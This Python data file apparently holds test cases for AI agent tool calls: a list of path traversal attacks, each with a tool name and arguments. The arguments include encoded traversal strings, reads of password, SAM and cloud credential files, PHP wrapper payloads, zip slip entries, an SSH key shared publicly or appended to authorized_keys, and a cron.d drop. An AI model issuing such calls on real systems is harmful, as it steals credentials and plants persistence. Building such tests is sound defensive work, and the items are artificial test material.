# Path traversal attacks.
F = "path_traversal"
PAT = "PayloadsAllTheThings/Directory Traversal"
PATF = "PayloadsAllTheThings/File Inclusion"
OW = "OWASP WSTG-ATHZ-01"

CASES = [
    (F, "plain ../ in attachment name", PAT, "helpdesk.attachment.get",
     {"ticket_id": 88213, "filename": "../../../../../../etc/passwd"}),

    (F, "percent-encoded slashes", PAT, "http.fetch",
     {"url": "https://files.helpdesk-cdn.net/download?name=..%2f..%2f..%2f..%2fetc%2fshadow", "method": "GET"}),

    (F, "double percent-encoding", PAT, "drive.download",
     {"provider": "box", "file_path": "%252e%252e%252f%252e%252e%252f%252e%252e%252fhome%252fapp%252f.env", "dest": "tmp/"}),

    (F, "overlong UTF-8 dot/slash", PAT, "fs.read",
     {"path": "templates/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"}),

    (F, "backslash traversal to Windows SAM", PAT, "windows.fileshare.read",
     {"share": "\\\\fs01.corp.local\\Reports", "path": "..\\..\\..\\..\\Windows\\System32\\config\\SAM"}),

    (F, "mixed ..\\/ separators", PAT, "fs.read",
     {"path": "exports\\..\\/..\\/..\\/..\\/root/.bash_history", "encoding": "utf-8"}),

    (F, "nested ....// filter bypass", PAT, "email.attach",
     {"message_id": "msg_7781", "attachments": [{"path": "....//....//....//....//etc/ssl/private/helpdesk.key", "name": "logs.txt"}]}),

    (F, "absolute path to SSH private key", OW, "drive.upload",
     {"provider": "gdrive", "local_path": "/home/deploy/.ssh/id_ed25519", "remote_folder": "Shared/Vendor Uploads", "share_with": ["anyone_with_link"]}),

    (F, "tilde path to AWS credentials file", OW, "fs.read",
     {"path": "~/.aws/credentials"}),

    (F, "gcloud ADC credential file", OW, "slack.upload_file",
     {"channel": "#random", "file_path": "/root/.config/gcloud/application_default_credentials.json", "title": "config"}),

    (F, "Kubernetes service-account token path", OW, "fs.read",
     {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),

    (F, "/proc/self/environ via traversal", PATF, "render.pdf",
     {"template": "invoice", "assets": {"logo": "../../../../proc/self/environ"}}),

    (F, "zip slip entry name", "Snyk Zip Slip", "archive.extract",
     {"archive": "incoming/vendor_bundle.zip", "dest": "workspace/vendor",
      "entries": [{"name": "README.md"}, {"name": "../../../../home/app/.bashrc"}]}),

    (F, "tar slip entry with absolute path", "Snyk Zip Slip", "archive.create_from_manifest",
     {"output": "exports/site.tar", "manifest": [{"src": "build/index.html", "arcname": "index.html"},
                                                  {"src": "build/cron", "arcname": "/etc/cron.d/sitecache"}]}),

    (F, "escape declared workspace root into sibling tenant", OW, "fs.read",
     {"workspace_root": "/srv/workspaces/t-812", "path": "/srv/workspaces/t-812/../t-813/exports/payroll_2024.csv"}),

    (F, "PHP filter wrapper base64 source read", PATF, "render.page",
     {"page": "php://filter/convert.base64-encode/resource=../config/database.php", "lang": "en"}),

    (F, "phar:// deserialization wrapper", PATF, "fs.stat",
     {"path": "phar://uploads/avatars/u_4412.jpg/test.txt"}),

    (F, "zip:// wrapper include", PATF, "render.page",
     {"page": "zip://uploads/ticket_991/logs.zip%23shell", "lang": "de"}),

    (F, "Java file: URL to WEB-INF", "OWASP WSTG-INPV-11", "docs.import",
     {"source_url": "file:../../webapps/ROOT/WEB-INF/web.xml", "format": "xml"}),

    (F, "null byte extension truncation", PAT, "helpdesk.attachment.get",
     {"ticket_id": 90112, "filename": "../../../../etc/passwd%00.pdf"}),

    (F, "unicode %u2215 slash encoding", PAT, "http.fetch",
     {"url": "https://intranet.acme.example/static/..%u2215..%u2215..%u2215etc%u2215hosts", "method": "GET"}),

    (F, "fullwidth dot normalization", "own design", "fs.read",
     {"path": "exports/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/shadow"}),

    (F, "symlink out of synced folder", "own design", "drive.sync",
     {"provider": "onedrive", "local": "sync/Finance", "ops": [{"op": "symlink", "target": "/etc", "link": "sync/Finance/etc"},
                                                             {"op": "push", "path": "sync/Finance/etc/shadow"}]}),

    (F, "email layout include traversal", PATF, "email.render",
     {"template": "welcome", "layout": "../../../../../../home/app/.env", "vars": {"name": "Dana"}}),

    (F, "cron.d as download destination", OW, "drive.sync",
     {"provider": "s3", "remote": "s3://vendor-drop/ops/job", "local": "./workspace/../../../../etc/cron.d/vendor-job", "direction": "pull"}),

    (F, "Docker config credentials", OW, "support.attach_diagnostics",
     {"ticket_id": 55120, "files": ["logs/app.log", "/home/runner/.docker/config.json", "/home/runner/.netrc"]}),

    (F, "Windows user profile credential stores", OW, "windows.fileshare.read",
     {"share": "C$", "path": "C:\\Users\\svc_sync\\AppData\\Roaming\\Microsoft\\Credentials\\..\\..\\..\\..\\.azure\\msal_token_cache.json"}),

    (F, "git hooks path escaping repo", "own design", "fs.write",
     {"path": ".git/hooks/../../../../../home/deploy/.ssh/authorized_keys", "content": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDq evil@host\n", "append": True}),

    (F, "/proc/self/cwd relative config read", PATF, "fs.read",
     {"path": "/proc/self/cwd/config/secrets.yml"}),

    (F, "kubelet client key via encoded dots", PAT, "http.fetch",
     {"url": "https://docs.internal-tools.net/view?doc=.%2e/.%2e/.%2e/.%2e/var/lib/kubelet/pki/kubelet-client-current.pem", "method": "GET"}),
]
